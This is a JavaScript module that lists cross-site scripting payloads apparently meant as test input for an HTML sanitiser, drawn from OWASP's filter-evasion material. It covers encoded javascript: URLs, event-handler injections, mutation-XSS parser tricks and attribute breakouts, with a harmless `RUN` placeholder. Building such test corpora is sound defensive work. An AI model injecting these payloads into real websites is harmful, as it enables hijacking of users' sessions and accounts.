// Ways to have a browser run something from text: the kinds of OWASP's Cross Site Scripting Prevention and Filter
// Evasion cheat sheets (cheatsheetseries.owasp.org, CC BY-SA 4.0), written anew, and the mutations that broke other
// sanitisers since. `RUN` stands for the call that says that something ran.

/** HTML that runs, loads, or would be moved by a careless parser to where it runs. */
export const html = [
  // Scripts, and tags that a filter reads in another way than a browser.
  '<script>RUN</script>', '<SCRIPT>RUN</SCRIPT>', '<scr<script>ipt>RUN</scr</script>ipt>', '<<script>RUN//<</script>',
  '<script/x src=ran.js></script>', '<script src=ran.js?<b>', '<script a=">" src=ran.js></script>',
  '</script><script>RUN</script>', '</title><script>RUN</script>', '</textarea><script>RUN</script>',
  '</style><script>RUN</script>', '<script\u0000>RUN</script>', '<scr\u0000ipt>RUN</script>', '<script\n>RUN</script\n>',
  '<!--><script>RUN</script>-->', '<!-- --!><img src=x: onerror=RUN>-->', '<!--[if gte IE 4]><script>RUN</script><![endif]-->',
  '<![CDATA[><script>RUN</script>]]>', '<?x ><img src=x: onerror=RUN>?>', '<xmp><p title="</xmp><img src=x: onerror=RUN>">',
  // Attributes that are programs.
  '<img src=x: onerror=RUN>', '<img src=x: onerror\n=\nRUN>', '<img/src=x:/onerror=RUN>', '<img """><script>RUN</script>">',
  '<img src=x: ONERROR="RUN"', '<img src=x: onerror="&#82UN&#x3b;RUN">', '<img src="x:`<script>RUN</script>"` `>', '<image src=x: onerror=RUN>',
  '<body onload=RUN>', '<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=RUN>', '<body background="javascript:RUN">',
  '<div onmouseover=RUN style="position:fixed;inset:0">x</div>', '<b onclick=RUN onpointerenter=RUN>x</b>', '<p tabindex=0 onfocus=RUN>x</p>',
  '<input autofocus onfocus=RUN>', '<select autofocus onfocus=RUN><option>x</select>', '<textarea autofocus onfocus=RUN></textarea>',
  '<details open ontoggle=RUN><summary>x</summary></details>', '<video><source onerror=RUN></video>', '<audio src=x: onerror=RUN></audio>',
  '<video src=x: onerror=RUN></video>', '<marquee onstart=RUN>x</marquee>', '<style onload=RUN></style>', '<object onerror=RUN data=x:></object>',
  '<p style="animation:none 1s" onanimationstart=RUN>x</p>', '<div popover onbeforetoggle=RUN>x</div>', '<a href="x" onclick=RUN>x</a>',
  // Addresses that are programs, in every element that has one.
  '<a href="javascript:RUN">x</a>', '<a href="JaVaScRiPt:RUN">x</a>', '<a href="jav&#x09;ascript:RUN">x</a>', '<a href="jav&#x0A;ascript:RUN">x</a>',
  '<a href=" &#14; javascript:RUN">x</a>', '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58RUN">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN">x</a>', '<a href="javascript&colon;RUN">x</a>', '<a href="\u0001javascript:RUN">x</a>',
  '<a href="data:text/html,<script>RUN</script>">x</a>', '<a href="vbscript:RUN">x</a>', '<a href="blob:null/RUN">x</a>',
  '<iframe src="javascript:RUN"></iframe>', '<iframe srcdoc="&lt;script>parent.RUN&lt;/script>"></iframe>', '<iframe src=ran.html <', '<frameset><frame src="javascript:RUN"></frameset>',
  '<form action="javascript:RUN"><button>x</button></form>', '<button form=f formaction="javascript:RUN">x</button><form id=f></form>', '<input type=image src="javascript:RUN" formaction="javascript:RUN">',
  '<object data="javascript:RUN"></object>', '<object data="data:text/html,<script>RUN</script>"></object>', '<embed src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'RUN\'/>">',
  '<base href="javascript:RUN;//">', '<meta http-equiv=refresh content="0;url=javascript:RUN">', '<meta http-equiv=refresh content="0;url=ran.html">',
  '<link rel=stylesheet href="javascript:RUN">', '<link rel=stylesheet href="ran.css">', '<style>@import "javascript:RUN";</style>', '<img src="javascript:RUN" lowsrc="javascript:RUN" dynsrc="javascript:RUN">',
  '<table background="javascript:RUN"><tr><td background="javascript:RUN">x</table>', '<div style="background:url(javascript:RUN)">x</div>', '<div style="width:expression(RUN)">x</div>', '<br size="&{RUN}">', '<bgsound src="javascript:RUN">',
  // Drawings and formulas.
  '<svg onload=RUN>', '<svg/onload=RUN>', '<svg><script>RUN</script></svg>', '<svg><script href="ran.js"></script></svg>', '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>', '<svg><a><set attributeName=href to="javascript:RUN"/><text y=20>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>RUN</script></svg>#x"/></svg>',
  '<svg><foreignObject><img src=x: onerror=RUN></foreignObject></svg>', '<svg><style><img src=x: onerror=RUN></style></svg>', '<math href="javascript:RUN">x</math>', '<math><maction actiontype="statusline#x" xlink:href="javascript:RUN">x</maction></math>',
  // Mutations: harmless when read once, not when read again.
  '<noscript><p title="</noscript><img src=x: onerror=RUN>"></noscript>', '<svg></p><style><a id="</style><img src=x: onerror=RUN>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x: onerror=RUN>"></style></h1>', '<template><script>RUN</script></template>', '<div><template shadowrootmode=open><img src=x: onerror=RUN></template></div>',
  '<p id="</p><img src=x: onerror=RUN>">', '<listing>&lt;img src=x: onerror=RUN&gt;</listing>', '<plaintext><img src=x: onerror=RUN>', '<select><iframe></select><img src=x: onerror=RUN>', '<table><td><svg><desc><td><style><img src=x: onerror=RUN>',
  '<handbook-slot n="0"><img src=x: onerror=RUN></handbook-slot>', '<b title="<handbook-slot n=&quot;0&quot;></handbook-slot>" onclick=RUN>x</b>', '<b title=\'"><img src=x: onerror=RUN>\'>x</b>', '&lt;img src=x: onerror=RUN&gt;', '&amp;lt;img src=x: onerror=RUN&amp;gt;'
]

/** Addresses that are programs, as a browser reads them. */
export const addresses = [
  'javascript:RUN', 'JAVASCRIPT:RUN', 'java\tscript:RUN', 'java\nscript:RUN', '\u0001javascript:RUN', '\u00a0javascript:RUN', ' javascript:RUN', 'javascript\u0009:RUN',
  'javascript&colon;RUN', '&#106;avascript:RUN', '&#x6a;avascript&#58;RUN', 'javascript&NewLine;:RUN', 'jav&Tab;ascript:RUN', 'javascript://%0aRUN', 'javascript:/*--></title></script>*/RUN', 'view-source:javascript:RUN', 'feed:javascript:RUN', '%6aavascript:RUN', 'javascript\\:RUN',
  'data:text/html,<script>RUN</script>', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW4oMCk8L3NjcmlwdD4=', 'data:image/svg+xml,<svg onload=RUN>', 'DATA:,x', 'vbscript:RUN', 'livescript:RUN', 'mocha:RUN', 'blob:null/x', 'filesystem:x'
]

/** Text that ends the attribute, the element, the string or the template that it is put into. */
export const texts = [
  '"><img src=x: onerror=RUN>', '\'><img src=x: onerror=RUN>', '" onmouseover="RUN" x="', '\' autofocus onfocus=\'RUN', '`onmouseover=RUN`', '--><script>RUN</script>', '</title><script>RUN</script>',
  '</script><script>RUN</script>', '</style></svg><img src=x: onerror=RUN>', ']]><script>RUN</script>', '\\";RUN;//', '\';RUN;//', '${RUN}', '{{ RUN }}', '{% raw %}<script>RUN</script>', '&quot;&gt;&lt;img src=x: onerror=RUN&gt;', '\u2028RUN//'
]
